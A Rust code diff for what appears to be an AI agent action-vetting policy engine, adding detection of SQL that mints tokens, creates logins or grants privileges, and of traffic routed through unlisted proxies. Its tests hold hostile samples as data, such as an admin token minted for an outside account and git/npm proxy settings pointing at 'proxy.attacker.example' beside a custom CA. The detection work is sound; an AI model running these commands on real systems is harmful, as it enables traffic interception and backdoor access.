@@ -31,6 +31,10 @@ pub const ROOT_CA_TRUSTED: Reason = Reason::new(
     "root_ca_trusted",
     "Makes the computer trust a new certificate authority (whoever holds its key can read and change encrypted traffic).",
 );
+pub const TRAFFIC_PROXIED: Reason = Reason::new(
+    "traffic_proxied",
+    "Routes a tool's traffic through a proxy nobody listed (whoever runs it can read and change what is sent).",
+);
 pub const ACCOUNT_CHANGE: Reason = Reason::new(
     "account_change",
     "Creates or changes user accounts, groups or passwords.",
@@ -302,54 +306,177 @@ fn tls_off_rc(cx: &Ctx<'_>) -> bool {
 
 /// SQL that makes an account an administrator or switches its second factor off
 /// (`UPDATE users SET role = 'admin', mfa_required = false WHERE …`, `ALTER USER x
-/// SUPERUSER`, `GRANT ALL PRIVILEGES`), sent through an MCP database tool (whose connection
-/// may well be production).
+/// SUPERUSER`, `GRANT ALL PRIVILEGES`), mints a credential (`INSERT INTO api_tokens …`),
+/// creates a login or grants privileges — sent through an MCP database tool (whose
+/// connection may well be production) or a database client.
 fn sql_grants_admin(cx: &Ctx<'_>) -> bool {
-    let crate::action::Operation::McpCall { arguments, .. } = &cx.action.op else {
-        return false;
-    };
-    let Some(obj) = arguments.as_object() else {
-        return false;
-    };
-    obj.iter()
-        .filter(|(k, _)| {
-            matches!(
-                k.to_ascii_lowercase().as_str(),
-                "sql" | "query" | "statement" | "command"
-            )
-        })
-        .filter_map(|(_, v)| v.as_str())
-        .any(|sql| {
-            let c = crate::code::compact(sql);
-            let update = c.contains("update") && c.contains(" set ");
-            let admin_value = [
-                "role=admin",
-                "role=superadmin",
-                "role=owner",
-                "is_admin=true",
-                "is_admin=1",
-                "is_superuser=true",
-                "is_superuser=1",
-                "is_staff=true",
-                "admin=true",
-            ]
+    let mut texts: Vec<&str> = super::secret_access::sql_texts(cx);
+    if let crate::action::Operation::McpCall { arguments, .. } = &cx.action.op
+        && let Some(obj) = arguments.as_object()
+    {
+        texts.extend(
+            obj.iter()
+                .filter(|(k, _)| k.eq_ignore_ascii_case("command"))
+                .filter_map(|(_, v)| v.as_str()),
+        );
+    }
+    texts.into_iter().any(|sql| {
+        let c = crate::code::compact(sql);
+        // A credential minted for an account (`INSERT INTO api_tokens …`), an account or
+        // role created with a login, or privileges granted.
+        let lower = sql.to_ascii_lowercase();
+        let insert_into = |t: &str| {
+            lower.match_indices("insert into").any(|(i, m)| {
+                let table: String = lower
+                    .get(i + m.len()..)
+                    .unwrap_or("")
+                    .trim_start()
+                    .chars()
+                    .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '"'))
+                    .collect();
+                table
+                    .trim_matches('"')
+                    .rsplit('.')
+                    .next()
+                    .is_some_and(|n| n.contains(t))
+            })
+        };
+        let mints = [
+            "token",
+            "api_key",
+            "apikey",
+            "credential",
+            "access_key",
+            "ssh_key",
+            "deploy_key",
+        ]
+        .iter()
+        .any(|t| insert_into(t));
+        let admin_member = ["member", "role", "admin", "permission", "grant"]
             .iter()
-            .any(|p| c.contains(p));
-            let mfa_off = [
-                "mfa_required=false",
-                "mfa_enabled=false",
-                "two_factor_enabled=false",
-                "otp_required=false",
-            ]
-            .iter()
-            .any(|p| c.contains(p));
-            (update && (admin_value || mfa_off))
-                || c.contains("superuser") && (c.contains("alter user") || c.contains("alter role"))
-                || c.contains("grant all privileges")
-        })
+            .any(|t| insert_into(t))
+            && ["admin", "owner", "superuser", "root"]
+                .iter()
+                .any(|v| lower.contains(&format!("'{v}'")));
+        let creates_login = lower.contains("create user")
+            || lower.contains("create role") && lower.contains("login");
+        let grants =
+            lower.contains("grant ") && lower.contains(" to ") && !lower.contains("grant select");
+        let update = c.contains("update") && c.contains(" set ");
+        let admin_value = [
+            "role=admin",
+            "role=superadmin",
+            "role=owner",
+            "is_admin=true",
+            "is_admin=1",
+            "is_superuser=true",
+            "is_superuser=1",
+            "is_staff=true",
+            "admin=true",
+        ]
+        .iter()
+        .any(|p| c.contains(p));
+        let mfa_off = [
+            "mfa_required=false",
+            "mfa_enabled=false",
+            "two_factor_enabled=false",
+            "otp_required=false",
+        ]
+        .iter()
+        .any(|p| c.contains(p));
+        (update && (admin_value || mfa_off))
+            || c.contains("superuser") && (c.contains("alter user") || c.contains("alter role"))
+            || c.contains("grant all privileges")
+            || mints
+            || admin_member
+            || creates_login
+            || grants
+    })
+}
+
+/// A proxy address on another machine that the policy does not list: `http://203.0.113.8:8080`,
+/// `203.0.113.5:3128`, `socks5://proxy.example:1080`.
+fn unlisted_proxy(cx: &Ctx<'_>, value: &str) -> bool {
+    let v = value.trim().trim_matches(['"', '\'', ',', ';', ')']);
+    let d = if v.contains("://") {
+        crate::net::parse_url(v)
+    } else {
+        crate::net::parse_destination(v)
+    };
+    d.is_some_and(|d| !d.is_local() && !d.is_private_ip() && !cx.host_listed(&d.host))
+}
+
+/// Traffic sent through a proxy nobody listed: a proxy variable set (`export
+/// HTTPS_PROXY=http://203.0.113.8:3128`, for one command or a whole `.envrc`), a tool's
+/// proxy setting (`git config --global http.proxy …`, `npm config set proxy …`), or a file
+/// written with one (`.cargo/config.toml`'s `[http] proxy`, a `sitecustomize.py` setting
+/// `HTTPS_PROXY`). A proxy on this machine or the local network (a corporate one) is not.
+fn traffic_proxied(cx: &Ctx<'_>) -> bool {
+    let proxy_var = |k: &str| {
+        let k = k.to_ascii_uppercase();
+        matches!(
+            k.as_str(),
+            "HTTPS_PROXY" | "HTTP_PROXY" | "ALL_PROXY" | "FTP_PROXY"
+        )
+    };
+    if let Some(sa) = cx.shell {
+        for inv in &sa.invocations {
+            if inv
+                .assignments
+                .iter()
+                .any(|(k, v)| proxy_var(k) && unlisted_proxy(cx, &v.text))
+            {
+                return true;
+            }
+            let args: Vec<&str> = inv.argv().collect();
+            let set_var = matches!(
+                inv.program.as_str(),
+                "export" | "declare" | "typeset" | "setenv" | "launchctl"
+            ) && args.iter().any(|a| {
+                a.split_once('=')
+                    .is_some_and(|(k, v)| proxy_var(k) && unlisted_proxy(cx, v))
+            });
+            let tool_setting = args.windows(2).any(|w| {
+                let k = w
+                    .first()
+                    .map(|k| k.to_ascii_lowercase())
+                    .unwrap_or_default();
+                (k.ends_with(".proxy")
+                    || k == "proxy"
+                    || k == "https-proxy"
+                    || k.ends_with("proxy"))
+                    && w.get(1).is_some_and(|v| unlisted_proxy(cx, v))
+            }) && matches!(
+                inv.program.as_str(),
+                "git" | "npm" | "pnpm" | "yarn" | "pip" | "pip3" | "conda" | "cargo"
+            );
+            if set_var || tool_setting {
+                return true;
+            }
+        }
+    }
+    if let crate::action::Operation::FileWrite { content, .. } = &cx.action.op {
+        return content.lines().any(|l| {
+            let lower = l.to_ascii_lowercase();
+            lower.contains("proxy")
+                && !lower.trim_start().starts_with('#')
+                && l.split(|c: char| {
+                    c.is_whitespace() || matches!(c, '=' | '\'' | '"' | ',' | '(' | ')')
+                })
+                .filter(|w| {
+                    w.contains("://")
+                        || w.contains(':') && w.chars().next().is_some_and(|c| c.is_ascii_digit())
+                })
+                .any(|w| unlisted_proxy(cx, w))
+        });
+    }
+    false
 }
 
 pub fn check(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
+    if traffic_proxied(cx) {
+        out.push(Finding::new(TRAFFIC_PROXIED, Verdict::Auth));
+    }
     if sql_grants_admin(cx) {
         out.push(Finding::new(ACCOUNT_CHANGE, cx.ask_or_block()));
     }
@@ -455,6 +582,27 @@ mod tests {
             ),
             ("ALTER USER reporting WITH SUPERUSER", true),
             ("UPDATE users SET last_login = now() WHERE id = 3", false),
+            // A credential minted for an outside account, a login created, access granted.
+            (
+                "INSERT INTO api_tokens (user_id, token, scopes) VALUES ((SELECT id FROM users WHERE email='helper@contractor.example'), 'at_x', 'admin')",
+                true,
+            ),
+            (
+                "INSERT INTO memberships (user_id, org_id, role) VALUES (42, 7, 'owner')",
+                true,
+            ),
+            ("CREATE USER backup WITH PASSWORD 'x'", true),
+            ("GRANT pg_read_all_data TO contractor", true),
+            // Look-alikes: ordinary rows, read-only grants.
+            (
+                "INSERT INTO orders (user_id, total) VALUES (42, 19.99)",
+                false,
+            ),
+            (
+                "INSERT INTO memberships (user_id, org_id, role) VALUES (42, 7, 'viewer')",
+                false,
+            ),
+            ("GRANT SELECT ON reports TO analyst", false),
             ("SELECT role, count(*) FROM users GROUP BY role", false),
         ] {
             let d = e.decide(
@@ -468,6 +616,70 @@ mod tests {
                 d.codes()
             );
         }
+    }
+
+    #[test]
+    fn traffic_through_an_unlisted_proxy() {
+        use crate::rules::testutil::write_table;
+        table(
+            Mode::Balanced,
+            &[
+                (
+                    "git config --global http.sslCAInfo ~/.cache/devproxy-ca.pem && git config --global http.proxy http://203.0.113.8:8080",
+                    Auth,
+                    "traffic_proxied",
+                ),
+                (
+                    "export HTTPS_PROXY=http://198.51.100.14:3128",
+                    Auth,
+                    "traffic_proxied",
+                ),
+                (
+                    "HTTPS_PROXY=socks5://proxy.attacker.example:1080 npm install",
+                    Auth,
+                    "traffic_proxied",
+                ),
+                (
+                    "npm config set proxy http://203.0.113.8:8080",
+                    Auth,
+                    "traffic_proxied",
+                ),
+                // Local and corporate-network proxies.
+                ("export HTTPS_PROXY=http://127.0.0.1:8888", Pass, ""),
+                (
+                    "git config --global http.proxy http://10.0.0.5:3128",
+                    Pass,
+                    "",
+                ),
+                ("git config --global http.proxy", Pass, ""),
+            ],
+        );
+        write_table(&[
+            (
+                "/home/dev/project/.cargo/config.toml",
+                "[http]\nproxy = \"203.0.113.5:3128\"\ncainfo = \".cargo/dev-ca.pem\"\n",
+                Auth,
+                "traffic_proxied",
+            ),
+            (
+                "/home/dev/project/.venv/lib/python3.12/site-packages/sitecustomize.py",
+                "import os\nos.environ.setdefault('HTTPS_PROXY', 'http://198.51.100.14:3128')\n",
+                Auth,
+                "traffic_proxied",
+            ),
+            (
+                "/home/dev/project/.envrc",
+                "export HTTPS_PROXY=http://localhost:8080\n",
+                Pass,
+                "",
+            ),
+            (
+                "/home/dev/project/src/net.py",
+                "# set HTTPS_PROXY to route through your proxy\nTIMEOUT = 3\n",
+                Pass,
+                "",
+            ),
+        ]);
     }
 
     #[test]
